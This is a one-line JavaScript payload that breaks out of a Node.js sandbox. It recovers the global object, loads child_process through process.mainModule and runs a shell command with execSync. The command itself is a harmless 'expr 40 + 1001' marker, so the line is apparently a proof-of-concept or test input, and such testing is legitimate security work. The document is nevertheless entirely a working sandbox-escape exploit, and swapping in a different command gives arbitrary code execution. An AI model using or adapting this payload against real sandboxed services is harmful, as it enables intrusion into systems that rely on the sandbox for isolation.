const f=function(){ return this }.bind(); f().process.mainModule.require('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
